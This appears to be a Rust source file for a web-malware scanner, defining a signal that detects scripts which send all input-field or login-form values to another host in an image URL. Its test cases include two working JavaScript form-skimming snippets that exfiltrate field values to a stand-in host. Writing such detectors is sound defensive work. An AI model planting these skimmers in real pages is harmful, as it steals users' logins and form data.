//! `all-fields-in-address`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "all-fields-in-address",
    description: "The script sends the values of all input fields to another host in an image URL.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::FieldInAddress]), one(&[Atom::FieldQuery, Atom::FormContents])],
    within: 120,
    only_if: Some(collects),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var o='',l=document.getElementsByTagName('input');for(var i=0;i<l.length;i++)o+='&'+l[i].name+'='+l[i].value;new Image().src='http://c.example/log.php?'+o",
            "var f=document.querySelector('form[action*=login]');f.addEventListener('submit',function(){new Image().src='http://c.example/g.gif?'+new URLSearchParams(new FormData(f))})",
        ],
        without: &[
            "var q=document.querySelector('input[name=q]').value;img.src='https://c.example/preview?q='+q",
            "var l=document.getElementsByTagName('input');for(var i=0;i<l.length;i++)l[i].value='';new Image().src='http://c.example/reset.gif'",
            "var f=document.querySelector('form.search');f.addEventListener('submit',function(){new Image().src='http://c.example/g.gif?'+new URLSearchParams(new FormData(f))})",
        ],
    },
};

/// Whether the fields of a page are gone through, not those of one form: a list of them, and a loop.
fn collects(evidence: &Evidence<'_>, held: Held) -> bool {
    let (stream, items) = (evidence.stream, evidence.stream.items());
    let from = (held.first as usize).saturating_sub(BEFORE);
    let place = &items[from..=(held.last as usize).min(items.len() - 1)];
    let has = |words: &[&str]| place.iter().any(|item| words.contains(&stream.text(item)));
    has(&["getElementsByTagName", "querySelectorAll"]) && has(&["for", "forEach", "map", "reduce"])
        || signs_in(Near::new(evidence, held, BEFORE))
}

/// Whether it is all of a form that people sign in with, as it is sent.
fn signs_in(near: Near<'_>) -> bool {
    near.has_word(&["FormData"])
        && near.has_word(&["URLSearchParams", "entries"])
        && near.has(&["submit", "onsubmit"])
        && near.texts().any(|(_, text)| {
            text.starts_with("form")
                && ["login", "signin", "sign-in", "auth"].iter().any(|word| text.contains(word))
        })
}

/// Items of the loop's head before the first value is read.
const BEFORE: usize = 40;
